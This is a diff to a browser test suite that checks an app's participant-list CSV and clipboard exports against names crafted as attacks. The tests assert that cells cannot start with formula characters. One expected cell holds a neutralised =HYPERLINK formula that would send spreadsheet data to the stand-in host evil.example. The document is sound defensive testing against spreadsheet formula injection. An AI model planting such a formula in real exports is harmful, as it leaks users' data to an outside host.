@@ -1,7 +1,7 @@
 import { readFile } from 'node:fs/promises'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { restore } from '../../shared/files/index.ts'
+import { restore, showControls } from '../../shared/files/index.ts'
 import { openBrowser } from '../support/browser.ts'
 import { readCsv } from '../support/csv.ts'
 import { cutOff, openPanel, type OpenPanel } from '../support/panel.ts'
@@ -69,7 +69,7 @@ describe('participants whose names attack', () => {
     expect(dialogs).toEqual([])
   })
 
-  it('come out of the CSV harmless, in their columns, and exactly restorable', async () => {
+  it('come out of the CSV harmless, in their columns, and restorable, with control characters to be seen', async () => {
     await exportIt(panel.page, 'CSV')
     await panel.page.getByText(/Opened in your browser/).waitFor()
     const link = panel.client.openedUrls.at(-1) ?? ''
@@ -90,7 +90,7 @@ describe('participants whose names attack', () => {
       for (const cell of line) expect(cell).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
     }
     const names = lines.map(([name = '']) => restore(name))
-    for (const name of written) expect(names).toContain(name)
+    for (const name of written) expect(names).toContain(showControls(name))
     await panel.page.keyboard.press('Escape')
   })
 
@@ -98,7 +98,10 @@ describe('participants whose names attack', () => {
     await exportIt(panel.page, 'Copy')
     await panel.page.getByText(/^Copied/).waitFor()
     const text = await panel.page.evaluate(() => navigator.clipboard.readText())
-    const lines = readCsv(text.replaceAll('\r\n', '\n').replace(/\n$/, ''), '\t')
+    const [sentence = '', empty, ...rest] = text.replaceAll('\r\n', '\n').split('\n')
+    expect(sentence).toMatch(/^\d+ people (here|came)/)
+    expect(empty).toBe('')
+    const lines = readCsv(rest.join('\n').replace(/\n$/, ''), '\t')
     for (const line of lines) expect(line).toHaveLength(16)
     expect(text).not.toMatch(/(^|[\t\n])"?[=@＝]/)
     expect(lines.some(([name]) => name === '\'=HYPERLINK("http://evil.example/?"&A2;"name")')).toBe(true)
